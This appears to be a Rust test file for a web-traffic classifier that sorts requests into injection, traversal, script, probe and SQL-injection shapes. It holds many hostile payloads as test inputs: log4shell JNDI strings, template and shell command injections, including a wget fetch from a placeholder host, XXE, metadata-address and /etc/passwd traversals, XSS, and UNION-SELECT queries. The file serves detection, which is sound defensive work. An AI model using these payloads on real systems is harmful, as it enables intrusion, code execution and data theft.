//! The shapes other than SQL injection, through the front door; and how they weigh.

mod common;

use common::{encode, get, post};
use ward_payload::{Finding, Input, Part, Scratch, Shape, judge};

#[test]
fn injections() {
    for (value, sign) in [
        ("${jndi:ldap://example.org/a}", "log4shell"),
        ("${${lower:j}ndi:${lower:l}dap://example.org/a}", "log4shell"),
        ("${${::-j}${::-n}${::-d}${::-i}:rmi://example.org/x}", "log4shell"),
        ("${${env:NaN:-j}ndi${env:NaN:-:}ldap://example.org}", "log4shell"),
        ("${j${k8s:k5:-ND}i:dns://example.org}", "log4shell"),
        ("{{7*7}}", "template"),
        ("${7*7}", "template"),
        ("#{7*7}", "template"),
        ("<%= 7*7 %>", "template"),
        ("{{''.__class__.__mro__[2]}}", "template"),
        ("{{config}}", "template"),
        ("{% import('os').popen('id') %}", "template"),
        ("${T(java.lang.Runtime).getRuntime().exec('id')}", "template"),
        ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)}", "template"),
        ("<?php system($_GET['c']); ?>", "php-code"),
        ("-d allow_url_include=1 -d auto_prepend_file=php://input", "php-option"),
        ("/index/\\think\\app/invokefunction", "php-code"),
        ("() { :;}; /bin/bash -c id", "shellshock"),
        ("() { _; } >_[$($())] { id; }", "shellshock"),
        (";id", "shell-command"),
        ("127.0.0.1|id", "shell-command"),
        ("x; cat /etc/issue", "shell-command"),
        ("x;${IFS}id", "shell-command"),
        ("`id`", "shell-substitution"),
        ("$(wget http://example.org/x)", "shell-substitution"),
        ("a\r\nSet-Cookie: s=1", "header-split"),
        ("<!DOCTYPE a [<!ENTITY b SYSTEM \"file:///etc/issue\">]>", "xxe"),
        ("http://169.254.169.254/latest/meta-data/", "metadata-address"),
        ("*)(uid=*))(|(uid=*", "ldap"),
        ("rO0ABXNyABFqYXZhLnV0aWwu", "serialized-object"),
        ("O:8:\"stdClass\":1:{s:1:\"a\";i:1;}", "serialized-object"),
        ("http://example.org/shell.txt?", "remote-include"),
    ] {
        let found = get(&format!("/form?x={}", encode(value)));
        let shape = found.map(|found| found.shape);
        assert!(matches!(shape, Some(Shape::Injection | Shape::Sqli)), "{value}: {found:?}");
        if shape == Some(Shape::Injection) {
            assert_eq!(found.map(|found| found.sign), Some(sign), "{value}");
        }
    }
}

#[test]
fn injections_elsewhere() {
    let injection =
        |found: Option<Finding>| found.map(|found| found.shape) == Some(Shape::Injection);
    assert!(injection(get("/?class.module.classLoader.URLs%5B0%5D=0")));
    assert!(injection(get("/?class.module.classLoader.DefaultAssertionStatus=x")));
    assert!(injection(get("/login?user[$ne]=x")));
    assert!(injection(post("{\"user\": {\"$ne\": null}, \"password\": {\"$gt\": \"\"}}")));
    assert!(injection(post(
        "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"http://example.org\">]><r/>"
    )));
    assert!(injection(get("/%24%7Bjndi:ldap://example.org/a%7D")));
    let header = Input {
        method: b"GET",
        target: b"/",
        agent: b"${jndi:ldap://example.org/a}",
        ..Input::default()
    };
    let found = judge(&header, &mut Scratch::default());
    assert_eq!(
        found,
        Some(Finding { shape: Shape::Injection, sign: "log4shell", part: Part::Agent })
    );
    let shock =
        Input { method: b"GET", target: b"/", referrer: b"() { :;}; echo x", ..Input::default() };
    assert!(injection(judge(&shock, &mut Scratch::default())));
}

#[test]
fn traversals() {
    for target in [
        "/cgi-bin/.%2e/.%2e/.%2e/etc/passwd",
        "/../../../etc/shadow",
        "/static/..%5c..%5cboot.ini",
        "/a/%252e%252e/b",
        "/a/..;/manager/status",
        "/..%c0%af..%c0%afetc/passwd",
        "/download?f=../../../../etc/passwd",
        "/x?page=php://filter/x",
        "/x?f=....//....//etc/passwd",
        "/x?f=file:///etc/issue",
        "/x?f=c:\\windows\\win.ini",
        "/x?f=/proc/self/environ",
        "/x?f=%2e%2e%2f%2e%2e%2fx",
        "/x?f=..%252f..%252fx",
        "/x?f=..\\..\\x",
        "/etc/passwd",
        "/etc/passwd%3f",
        "/x?f=/etc/passwd%00.jpg",
        "/x?l=/../../../..//////////dev/cmdb/sslvpn_websession",
        "/unauth/%252e%252e/php/x.css",
        "/x?a=1;f=../../../etc/hosts",
    ] {
        let found = get(target);
        assert_eq!(found.map(|found| found.shape), Some(Shape::Traversal), "{target}: {found:?}");
    }
}

#[test]
fn scripts() {
    for value in [
        "<script>alert(1)</script>",
        "\"><svg/onload=confirm(1)>",
        "javascript:alert(1)",
        "%3Cimg src=x onerror=y%3E",
    ] {
        let found = get(&format!("/x?q={}", encode(value)));
        assert_eq!(found.map(|found| found.shape), Some(Shape::Script), "{value}: {found:?}");
    }
}

#[test]
fn the_heaviest_wins_and_is_placed() {
    let input = Input {
        method: b"GET",
        target: b"/wp-login.php?a=%3Cscript%3E&b=../../etc/passwd&c=1'%20or%201=1--",
        agent: b"sqlmap/1.7",
        ..Input::default()
    };
    let mut scratch = Scratch::default();
    let found = judge(&input, &mut scratch).unwrap();
    assert_eq!((found.shape, found.part), (Shape::Sqli, Part::Query));
    for (target, shape) in [
        (&b"/wp-login.php?b=../../etc/passwd"[..], Shape::Traversal),
        (b"/wp-login.php?b=%3Cscript%3E", Shape::Script),
        (b"/wp-login.php", Shape::Probe),
        (b"/", Shape::Tool),
    ] {
        assert_eq!(judge(&Input { target, ..input }, &mut scratch).unwrap().shape, shape);
    }
    let order =
        [Shape::Tool, Shape::Probe, Shape::Script, Shape::Traversal, Shape::Injection, Shape::Sqli];
    assert!(order.is_sorted());
}

#[test]
fn product_pages_are_told_from_probes() {
    for (target, product) in [
        ("/wp-login.php", true),
        ("/actuator", true),
        ("/?author=2", true),
        ("/.env", false),
        ("/HNAP1/", false),
    ] {
        assert_eq!(get(target).map(|found| found.is_product()), Some(product), "{target}");
    }
}

#[test]
fn no_http_at_all() {
    let line = |target| judge(&Input { target, ..Input::default() }, &mut Scratch::default());
    let hello = line(b"\x16\x03\x01\x02\x00\x01").unwrap();
    assert_eq!((hello.shape, hello.sign, hello.part), (Shape::Probe, "tls-hello", Part::Method));
    assert_eq!((line(b""), line(b"-")), (None, None));
    assert_eq!(
        line(b"${jndi:ldap://example.org}").map(|found| found.shape),
        Some(Shape::Injection)
    );
}

/// HTTP/0.9 has no version in its request line, and servers still answer it.
#[test]
fn lines_without_a_version() {
    let line = |target: &str| {
        judge(&Input { target: target.as_bytes(), ..Input::default() }, &mut Scratch::default())
    };
    for (text, shape) in [
        ("GET /voter?id=1' UNION SELECT name,ssn,3 FROM voters--", Shape::Sqli),
        ("GET /voter?id=1'%20UNION%20SELECT%20name,ssn,3%20FROM%20voters--", Shape::Sqli),
        ("get /voter?id=1'+or+1=1--", Shape::Sqli),
        ("GET /voter?f=../../../../etc/passwd", Shape::Traversal),
        ("GET /../../../etc/passwd", Shape::Traversal),
        ("GET /ping?h=127.0.0.1|id", Shape::Injection),
        ("GET /x?q=<script>alert(1)</script>", Shape::Script),
        ("GET /voter?id=1", Shape::Probe),
        ("GET /some page", Shape::Probe),
        ("HELO example.org", Shape::Probe),
    ] {
        assert_eq!(line(text).map(|found| found.shape), Some(shape), "{text}");
    }
    assert_eq!(line("-"), None);
}

#[test]
fn escapes_of_escapes() {
    for percent in ["%", "%25", "%2525"] {
        let target =
            format!("/v?id=1{percent}27{percent}20UNION{percent}20SELECT{percent}201,2,3--");
        assert_eq!(get(&target).map(|found| found.shape), Some(Shape::Sqli), "{target}");
    }
}
